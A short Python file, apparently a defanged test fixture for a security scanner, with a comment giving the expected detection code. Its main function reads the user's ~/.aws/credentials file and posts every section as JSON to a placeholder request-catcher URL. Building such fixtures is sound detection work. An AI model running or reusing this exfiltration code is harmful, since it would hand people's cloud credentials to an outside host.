# Defanged: a console script hands its request-catcher URL to a helper
# that posts the AWS credentials file to it.
import configparser
import os

import requests


def push(hook, secrets):
    requests.post(hook, json=secrets, timeout=5)  # expect: HS118 high


def main():
    hook = "https://defanged-fixture.m.pipedream.net"
    config = configparser.ConfigParser()
    config.read(os.path.expanduser("~/.aws/credentials"))
    push(hook, {s: dict(config[s]) for s in config.sections()})
